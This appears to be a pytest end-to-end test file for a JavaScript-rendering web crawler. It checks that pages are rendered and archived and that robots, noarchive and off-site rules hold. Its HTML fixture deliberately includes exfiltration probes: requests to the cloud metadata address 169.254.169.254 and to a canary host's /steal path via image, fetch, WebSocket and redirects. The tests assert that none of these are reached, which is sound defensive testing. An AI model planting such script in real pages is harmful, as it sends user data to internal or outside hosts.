"""Pages that hold nothing without a browser, and what a browser must not be led to."""

from __future__ import annotations

import gzip
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from storage.archive import Archive
from tests.e2e.crawling import ROOT, crawl, order, rows
from tests.e2e.plain_server import Answer, html, serving

SHELL = """<!DOCTYPE html><html lang="en"><head><title>Hiring nurses in Ghent</title></head><body><div id="root"></div>
<script>
fetch("/data.json").then(answer => answer.json()).then(data => {
  document.getElementById("root").innerHTML = "<main><h1>" + data.title + "</h1><p>" + data.text + "</p>" +
    '<a href="/second">Second</a><a href="/private">P</a><a href="/jump">Jump</a><a href="/away">Away</a></main>';
});
new Image().src = "http://169.254.169.254/steal?" + document.title;
for (const place of ["http://HOST/steal", "http://canary.test:PORT/steal", "/hop"]) fetch(place).catch(() => {});
try { new WebSocket("ws://HOST/steal"); } catch (error) {}
</script></body></html>"""
DATA = json.dumps({"title": "Hiring nurses in Ghent", "text": "Nurses are wanted everywhere."}).encode()


def needs_a_browser() -> None:
    pytest.importorskip("scrapy_playwright", reason="needs the extra `browser`")
    if not any(shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome")):
        pytest.skip("needs a Chromium on the machine")


def app(canary: str) -> dict[str, Answer]:
    shell = html(SHELL.replace("HOST", canary).replace("PORT", canary.split(":")[1]).encode())
    away = {"Location": f"http://{canary}/steal"}
    return {
        "/": shell,
        "/second": shell,
        "/data.json": (200, {"Content-Type": "application/json"}, DATA),
        "/private": html(shell[2].replace(b"<body>", b"<body><p>SECRET</p>"), X_Robots_Tag="noarchive"),
        "/hop": (302, away, b""),
        "/jump": (302, away, b""),
        "/away": (302, {"Location": "http://elsewhere.test:PORT/"}, b""),
    }


def test_the_document_is_rendered_and_kept_and_nothing_forbidden_is_loaded(tmp_path: Path) -> None:
    needs_a_browser()
    data = tmp_path / "data"
    with serving({}) as canary, serving(app(canary.host)) as site:
        port = site.host.split(":")[1]
        site.answers["/away"] = (302, {"Location": f"http://elsewhere.test:{port}/second"}, b"")
        what = order(site.origin, data, {"name": "app", "javascript": True}, retries=0, failure_budget=1)
        names = {"canary.test": ["127.0.0.1"], "elsewhere.test": ["127.0.0.1"]}
        outcome = crawl(what | {"names": names})
        assert outcome["exit_code"] == 0, outcome
        assert canary.paths == [], "the browser was led to an address that is not allowed"
        assert site.paths[0] == "/robots.txt"
        agents = {headers["user-agent"].partition("/")[0] for _, headers in site.seen}
        assert agents == {"guidepost"}, "the browser says who calls as every request does"
    became = {url.rpartition("/")[2]: what for url, what in rows(data, "SELECT url, outcome FROM frontier")}
    assert {became[path] for path in ("", "second")} == {"stored"}
    assert became["private"] == "noarchive"
    assert became["away"] == "off_site"
    assert became["jump"] != "stored"
    pages = [entry.page for entry in Archive(data / "archive").entries() if entry.page]
    assert len(pages) == 2, "the link in the rendered document was followed"
    assert all(b"<h1>Hiring nurses in Ghent</h1>" in page.content for page in pages)
    assert all(page.headers["x-guidepost-rendered"] == "chromium" for page in pages)
    records = b"".join(gzip.decompress(path.read_bytes()) for path in (data / "archive").iterdir())
    assert records.count(b'<div id="root"></div>') >= 2, "what the server itself sent is kept as well"
    assert b"SECRET" not in records


@pytest.mark.parametrize(
    "command", [["guidepost", "crawl", "--site", "app"], ["scrapy", "crawl", "site", "-a", "site=app"]]
)
def test_either_command_renders_what_a_site_file_asks_for(tmp_path: Path, command: list[str]) -> None:
    needs_a_browser()
    with serving({}) as canary, serving(app(canary.host)) as site:
        (tmp_path / "app.toml").write_text(
            f'start_urls = ["{site.origin}/"]\njavascript = true\n[politeness]\ndepth = 0\n'
        )
        environment = os.environ | {
            "GUIDEPOST_DATA": str(tmp_path / "data"),
            "GUIDEPOST_SITES": str(tmp_path),
            "GUIDEPOST_ALLOW_ADDRESSES": site.host,
            "GUIDEPOST_DELAY": "0",
        }
        run = [sys.executable, "-m", *command]
        done = subprocess.run(run, capture_output=True, text=True, cwd=ROOT, env=environment, timeout=90)
        assert done.returncode == 0, done.stderr
        (page,) = [entry.page for entry in Archive(tmp_path / "data" / "archive").entries() if entry.page]
        assert b"<h1>Hiring nurses in Ghent</h1>" in page.content
        missing = environment | {"GUIDEPOST_BROWSER": "/nowhere/chromium"}
        done = subprocess.run(run, capture_output=True, text=True, cwd=ROOT, env=missing, timeout=90)
    assert done.returncode == 2
    assert "there is no /nowhere/chromium" in " ".join((done.stderr + done.stdout).split())


def test_an_application_shell_met_without_a_browser_is_said(tmp_path: Path) -> None:
    with serving({}) as canary, serving(app(canary.host)) as site:
        outcome = crawl(order(site.origin, tmp_path / "data"))
    assert outcome["exit_code"] == 0
    assert "browser" in outcome["reason"] or "shell" in outcome["reason"], outcome["reason"]
